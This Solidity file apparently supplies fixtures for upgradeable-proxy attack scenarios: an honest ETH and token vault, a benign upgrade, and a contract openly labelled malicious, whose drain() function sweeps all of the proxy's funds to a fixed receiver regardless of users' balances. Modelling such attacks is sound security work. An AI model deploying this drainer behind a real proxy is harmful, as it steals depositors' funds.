// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20} from "./Interfaces.sol";

// Implementations behind OpenZeppelin's TransparentUpgradeableProxy: the honest vault (malicious-upgrade's
// victim, timelock-upgrade's starting point), its benign successor, and the attacker's drainer.

/// Models a custodial vault implementation: users deposit ETH and one token and withdraw their own balance.
/// Correct on its own; what makes it vulnerable is whoever holds the proxy's admin.
contract VaultV1 {
    address public owner;
    bool private initialized;
    IERC20 public token;
    mapping(address => uint256) public etherOf;
    mapping(address => uint256) public tokensOf;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Deposited(address indexed account, address indexed asset, uint256 amount);
    event Withdrawn(address indexed account, address indexed asset, uint256 amount);

    function initialize(address owner_, IERC20 token_) external {
        require(!initialized, "VaultV1: initialized");
        initialized = true;
        owner = owner_;
        token = token_;
        emit OwnershipTransferred(address(0), owner_);
    }

    function version() external pure virtual returns (uint256) {
        return 1;
    }

    function deposit() external payable {
        etherOf[msg.sender] += msg.value;
        emit Deposited(msg.sender, address(0), msg.value);
    }

    function depositToken(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        tokensOf[msg.sender] += amount;
        emit Deposited(msg.sender, address(token), amount);
    }

    function withdraw(uint256 amount) public {
        etherOf[msg.sender] -= amount;
        emit Withdrawn(msg.sender, address(0), amount);
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "VaultV1: transfer failed");
    }

    function withdrawToken(uint256 amount) public {
        tokensOf[msg.sender] -= amount;
        emit Withdrawn(msg.sender, address(token), amount);
        token.transfer(msg.sender, amount);
    }
}

/// The benign upgrade of timelock-upgrade: same storage, one convenience function more.
contract VaultV2 is VaultV1 {
    function version() external pure override returns (uint256) {
        return 2;
    }

    function withdrawEverything() external {
        withdraw(etherOf[msg.sender]);
        withdrawToken(tokensOf[msg.sender]);
    }
}

/// MALICIOUS implementation (malicious-upgrade): once the proxy points here, drain() sends every wei and token
/// the proxy holds to the receiver fixed at deployment. It ignores the users' ledger entirely.
contract VaultDrainer {
    address private immutable receiver;

    constructor(address receiver_) {
        receiver = receiver_;
    }

    function drain(IERC20 token) external {
        require(msg.sender == receiver, "not receiver");
        token.transfer(receiver, token.balanceOf(address(this)));
        (bool ok,) = receiver.call{value: address(this).balance}("");
        require(ok, "transfer failed");
    }
}
